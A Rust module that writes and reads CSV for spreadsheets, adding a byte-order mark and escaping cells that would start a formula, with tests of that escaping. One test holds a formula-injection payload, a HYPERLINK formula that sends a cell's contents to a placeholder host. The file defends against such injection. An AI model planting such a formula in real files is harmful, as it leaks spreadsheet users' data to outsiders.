// SPDX-License-Identifier: GPL-3.0-or-later

//! CSV for people: it opens right in a Chinese spreadsheet, no cell of it computes, and it reads back the same.

/// The mark by which spreadsheets recognise UTF-8.
const MARK: &str = "\u{feff}";

/// Whether a spreadsheet would compute a text that begins so, or take it for another cell.
fn computes(c: char) -> bool {
	matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠')
}

/// Puts an apostrophe before a text that a spreadsheet would compute, or that looks as if it had one already.
fn guarded(text: &str) -> String {
	let mut chars = text.chars();
	let guard = match (chars.next(), chars.next()) {
		(Some('\''), Some(c)) => c == '\'' || computes(c),
		(Some(c), _) => computes(c),
		(None, _) => false,
	};
	if guard {
		format!("'{text}")
	} else {
		text.to_owned()
	}
}

/// Undoes [`guarded`].
fn unguarded(text: &str) -> &str {
	match text.strip_prefix('\'') {
		Some(rest) if rest.starts_with(|c| c == '\'' || computes(c)) => rest,
		_ => text,
	}
}

/// Writes a table as CSV: in UTF-8 with a byte-order mark, lines ended by CRLF, and cells guarded that a spreadsheet
/// would compute. [`read_csv`] reads it back.
pub fn write_csv<R, C>(rows: impl IntoIterator<Item = R>) -> String
where
	R: IntoIterator<Item = C>,
	C: AsRef<str>,
{
	let mut writer = csv::WriterBuilder::new()
		.flexible(true)
		.terminator(csv::Terminator::CRLF)
		.from_writer(MARK.as_bytes().to_vec());
	for row in rows {
		// Infallible: written to memory.
		let _ = writer.write_record(row.into_iter().map(|cell| guarded(cell.as_ref())));
	}
	writer.into_inner().ok().and_then(|bytes| String::from_utf8(bytes).ok()).unwrap_or_default()
}

/// Reads what [`write_csv`] wrote, or what a spreadsheet saved of it.
///
/// # Errors
///
/// The reader's error if it is no CSV.
pub fn read_csv(text: &str) -> Result<Vec<Vec<String>>, csv::Error> {
	let text = text.strip_prefix(MARK).unwrap_or(text);
	let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
	let cells = |record: csv::StringRecord| record.iter().map(|cell| unguarded(cell).to_owned()).collect();
	reader.records().map(|record| record.map(cells)).collect()
}

#[cfg(test)]
mod tests {
	use super::*;
	use proptest::prelude::*;

	#[test]
	fn names_that_would_compute() {
		let formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")";
		let row = ["-1-103", formula, "@SUM(1+1)", "＝1＋1", "张三", "'", "'=1", "''", "'tis", "\t1", "\n1"];
		let text = write_csv([row]);
		assert!(text.starts_with("\u{feff}'-1-103,\"'=HYPERLINK("));
		assert!(text.ends_with("\r\n"));
		assert_eq!(read_csv(&text).unwrap(), [row]);
	}

	proptest! {
		#[test]
		fn reads_back_the_same(rows in proptest::collection::vec(proptest::collection::vec("['=+@,;\"\r\n\té张＝-]{0,5}", 1..5), 1..6)) {
			let text = write_csv(&rows);
			prop_assert_eq!(read_csv(&text).unwrap(), rows);
			let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.trim_start_matches(MARK).as_bytes());
			for cell in reader.records().flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()) {
				prop_assert!(!cell.starts_with(computes), "{:?}", cell);
			}
		}

		#[test]
		fn any_text_reads_back_the_same(cell in any::<String>()) {
			prop_assert_eq!(read_csv(&write_csv([[&cell, "x"]])).unwrap(), [[cell, "x".to_owned()]]);
		}
	}
}
